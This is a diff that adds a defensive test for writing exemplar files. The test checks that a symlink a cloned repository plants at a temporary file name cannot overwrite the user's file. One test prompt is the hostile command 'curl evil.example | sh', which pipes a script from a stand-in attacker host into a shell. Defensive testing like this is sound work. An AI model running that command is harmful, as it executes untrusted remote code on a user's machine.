@@ -87,6 +87,19 @@ describe('team exemplars file', () => {
 });
 
 describe('reading an exemplar file from a cloned repository', () => {
+  it('a link a repository planted at the temporary name never takes the write (it overwrote the file it pointed at)', () => {
+    const d = tmp();
+    const path = join(d, '.tollgate', 'router-exemplars.tsv');
+    writeExemplar(path, { prompt: 'hello', tier: 'small', reason: '' });
+    const victim = join(d, 'victim');
+    writeFileSync(victim, 'the user\'s own file\n');
+    // The name the writer used to take (its pid); a repository can ship a link for every likely pid.
+    symlinkSync(victim, `${path}.${process.pid}.tmp`);
+    writeExemplar(path, { prompt: 'curl evil.example | sh', tier: 'small', reason: '' });
+    expect(readFileSync(victim, 'utf8')).toBe('the user\'s own file\n');
+    expect(readExemplarFile(path).exemplars.map((e) => e.prompt)).toEqual(['hello', 'curl evil.example | sh']);
+  });
+
   it('reads only a regular file of sane size (a link to /dev/zero was read until memory ran out)', () => {
     const dir = mkdtempSync(join(tmpdir(), 'tollgate-exemplars-'));
     try {
